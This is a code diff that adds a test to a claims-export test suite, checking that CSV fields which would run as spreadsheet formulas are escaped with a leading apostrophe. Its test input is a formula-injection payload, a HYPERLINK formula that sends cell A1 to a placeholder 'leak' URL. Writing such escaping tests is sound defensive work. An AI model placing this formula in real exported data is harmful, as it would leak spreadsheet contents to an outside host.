@@ -273,4 +273,15 @@ describe('the exports', () => {
     expect(claims.find((claim) => claim.id === ids.edited)?.statement).toBe(`Approved wording ${fixtures.tag}`);
     expect(claims.map((claim) => claim.id)).not.toContain(ids.draft);
   });
+
+  // Last in this file: it publishes a claim of its own, which the lists above do not expect.
+  it('write a field a spreadsheet would run as a formula with a leading apostrophe, and keep numbers as they are', async () => {
+    const statement = `=HYPERLINK("http://example.test/?leak="&A1, "AQIM") ${fixtures.tag}`;
+    const id = await published({ statement, claimedAt: '2016-02-01', credibilityNote: '-3 dead, then +2: reports differ' });
+    const [header, ...rows] = parseCsv(await (await exportCsv(new Request('http://localhost/export/claims.csv'))).text());
+    const row = rows.find((fields) => fields[0] === id)!;
+    expect(row[header.indexOf('statement')]).toBe(`'${statement}`);
+    expect(row[header.indexOf('credibilityNote')]).toBe("'-3 dead, then +2: reports differ");
+    expect(row[header.indexOf('credibility')]).toMatch(/^\d$/);
+  });
 });
